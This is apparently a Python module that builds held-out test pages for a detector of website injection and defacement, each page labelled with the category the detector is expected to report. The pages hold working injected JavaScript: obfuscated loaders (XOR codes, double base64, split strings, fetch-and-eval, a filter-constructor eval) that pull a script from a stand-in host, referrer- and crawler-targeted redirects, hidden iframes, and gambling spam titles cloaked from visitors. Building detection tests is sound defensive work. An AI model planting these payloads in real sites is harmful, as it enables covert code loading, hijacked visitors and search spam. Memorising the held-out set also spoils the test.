"""Pages on which someone else writes: addresses that are put together, visitors led away, heads that sell.

Where a script is both a trick and a way to load a stranger's script, either name will do (`a|b`).
"""

from __future__ import annotations

from base64 import b64encode

from tests.golden.heldout19.making.checks_codes import entities
from tests.golden.heldout19.making.checks_frames import ARTICLE, HOME, NAME, article, home, script

from .checks_frames import single

EITHER = "foreign_script|script_trick"
AWAY = "https://www.huanle-8866.example/"
FILE = "https://cdn.tongji-js.example/a/k.js"


def base64(text: str) -> str:
    return b64encode(text.encode()).decode()


def codes(text: str, key: int = 0) -> str:
    """The numbers of its letters, each turned by a key."""
    return ",".join(str(ord(c) ^ key) for c in text)


def unicode_marks(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


def percent_marks(text: str) -> str:
    """As `escape` of old browsers wrote it."""
    return "".join(f"%u{ord(c):04X}" for c in text)


def put(name: str, html: str, *seen: str, url: str = HOME) -> None:
    single(f"injected/{name}", url, html, injection=list(seen))


def loads(name: str, code: str) -> None:
    """A script by which something of a stranger is loaded."""
    put(name, home("", after="", head=script(code)), EITHER)


def leads(name: str, code: str) -> None:
    """A script that leads visitors away."""
    put(name, home("", head=script(code)), "script_trick")


def put_together() -> None:
    letters = ",".join(f"'{c}'" for c in FILE)
    make = "var s=document.createElement('script');s.src=u;document.getElementsByTagName('head')[0].appendChild(s);"
    loads("letters_in_a_row", f"var u=[{letters}].join('');{make}")
    loads(
        "codes_turned_by_a_key",
        f"var u='';var c=[{codes(FILE, 7)}];for(var i=0;i<c.length;i++){{u+=String.fromCharCode(c[i]^7);}}{make}",
    )
    loads(
        "codes_turned_in_a_map",
        f"var u=[{codes(FILE, 35)}].map(function(c){{return String.fromCharCode(c^35)}}).join('');{make}",
    )
    loads(
        "codes_from_which_one_is_taken",
        f"var u='';[{','.join(str(ord(c) + 3) for c in FILE)}].forEach(function(c){{u+=String.fromCharCode(c-3)}});{make}",
    )
    loads("backwards", f"var u='{FILE[::-1]}'.split('').reverse().join('');{make}")
    loads("base64_twice", f"var u=atob(atob('{base64(base64(FILE))}'));{make}")
    loads(
        "name_of_the_source_in_halves",
        "var s=document.createElement('scr'+'ipt');s['s'+'rc']=['//','cdn.tongji-js','.example','/a/k.js'].join('');document.body.appendChild(s);",
    )
    loads(
        "written_in_four_pieces",
        "document.write('<scr');document.write('ipt src=\"https://cdn.tongji');document.write('-js.example/a/k.js\"></scr');document.write('ipt>');",
    )
    loads(
        "pieces_under_names",
        "var a='https://cdn.',b='tongji-js',c='.example/a/k.js';var s=document.createElement('script');s.setAttribute('src',a+b+c);document.head.append(s);",
    )
    loads(
        "pieces_that_grow", f"var u='https:';u+='//cdn.';u+='tongji-js.example';u+='/a/k.js';{make}"
    )
    loads(
        "letters_are_replaced",
        f"var u='hxxps://cdn#tongji-js#example/a/k#js'.replace('xx','tt').replace(/#/g,'.');{make}",
    )
    loads(
        "in_signs_of_percent",
        f"var u=decodeURIComponent('{''.join(f'%{ord(c):02x}' for c in FILE)}');{make}",
    )
    loads(
        "asked_for_and_run",
        f"fetch('{FILE}').then(function(r){{return r.text()}}).then(function(t){{eval(t)}});",
    )
    loads("asked_for_by_a_library", f"$.getScript('{FILE}');")
    loads("brought_in_as_a_module", f"import('{FILE}');")
    loads(
        "constructor_of_a_filter",
        f"['son']['filter']['constructor'](String['fromCharCode']['apply'](null,'{'ab'.join(str(ord(c)) for c in chr(10).join(['document.write(', repr('<script src=' + FILE + '></script>'), ')']).replace(chr(10), ''))}'['split'](/[a-zA-Z]{{1,}}/)))('son');",
    )


def led_away() -> None:
    leads(
        "engines_in_a_row",
        f"if(['baidu','sogou','so.com','bing'].some(function(x){{return document.referrer.indexOf(x)>-1}})){{location.href='{AWAY}';}}",
    )
    leads(
        "engines_and_a_cookie_of_a_day",
        f"(function(){{var r=document.referrer.toLowerCase();if(/baidu|sogou|360|bing/.test(r)&&document.cookie.indexOf('hx=1')==-1){{document.cookie='hx=1;max-age=86400';top.location.replace('{AWAY}');}}}})();",
    )
    leads(
        "telephones_by_their_touch",
        f"if('ontouchstart' in window&&screen.width<768){{location.replace('{AWAY}m/');}}",
    )
    leads(
        "those_who_go_back",
        f"history.pushState(null,null,location.href);window.onpopstate=function(){{location.href='{AWAY}';}};",
    )
    leads(
        "first_click_anywhere",
        f"document.addEventListener('click',function f(){{window.open('{AWAY}');document.removeEventListener('click',f);}});",
    )
    leads(
        "everybody_after_three_seconds",
        f"setTimeout(function(){{window.location.href='{AWAY}';}},3000);",
    )
    leads(
        "everybody_by_base64",
        f"window[atob('bG9jYXRpb24=')][atob('aHJlZg==')]=atob('{base64(AWAY)}');",
    )
    leads(
        "only_from_noon_to_night",
        f"var h=new Date().getHours();if(h>=12&&/baidu\\.com/.test(document.referrer)){{self.location='{AWAY}';}}",
    )
    put(
        "drawing_that_leads_away",
        home(f"<svg onload=\"location='{AWAY}'\" width=1 height=1></svg>"),
        "script_trick",
    )
    put(
        "refresh_of_an_article",
        article(head=f'<meta http-equiv="Refresh" content="5;URL={AWAY}">'),
        "script_trick",
        url=ARTICLE,
    )


def frames_and_heads() -> None:
    put(
        "frame_of_one_dot",
        home(f'<iframe src="{AWAY}" width="1" height="1" frameborder="0"></iframe>'),
        "foreign_script",
    )
    put(
        "frame_without_ink",
        home(f'<iframe src="{AWAY}x.html" style="opacity:0;position:absolute"></iframe>'),
        "foreign_script",
    )
    put(
        "thing_of_a_stranger",
        home(f'<embed src="{AWAY}f.swf" width="1" height="1">'),
        "foreign_script",
    )
    put(
        "base_of_a_stranger",
        home(
            '<script src="js/common.js"></script>',
            head='<base href="https://cdn.tongji-js.example/">',
        ),
        "foreign_script",
    )
    put(
        "title_in_numbers",
        home("", title=entities("幸运飞艇开奖直播_极速赛车投注平台")),
        "page_defaced",
    )
    put(
        "title_in_hexadecimal_numbers",
        home("", title="".join(f"&#x{ord(c):X};" for c in "百家乐真人娱乐官网")),
        "page_defaced",
    )
    put(
        "title_by_old_percents",
        home(
            "",
            head=script(
                f"if(/spider|bot/i.test(navigator.userAgent)){{document.title=unescape('{percent_marks('棋牌游戏平台官网下载')}');}}"
            ),
        ),
        "script_trick",
    )
    put(
        "description_of_a_card",
        home(
            "",
            head='<meta property="og:title" content="澳门赌场官网_真人百家乐"><meta property="og:description" content="澳门赌场官方网站，真人百家乐在线投注，注册送彩金"><meta name="keywords" content="澳门赌场,百家乐,在线投注">',
        ),
        "page_defaced",
    )
    put(
        "data_for_engines",
        home(
            "",
            head='<script type="application/ld+json">{"@context":"https://schema.org","@type":"WebSite","name":"开元棋牌官网","headline":"开元棋牌_真人百家乐在线投注平台"}</script>',
        ),
        "page_defaced",
    )
    put(
        "title_by_marks_for_spiders",
        home(
            "",
            head=script(
                f"var ua=navigator.userAgent.toLowerCase();if(ua.indexOf('baiduspider')>-1||ua.indexOf('sogou')>-1){{document.title=\"{unicode_marks('北京赛车pk10计划_彩票平台')}\";}}else{{document.title='{NAME}';}}"
            ),
        ),
        "script_trick",
    )


def build() -> None:
    put_together()
    led_away()
    frames_and_heads()
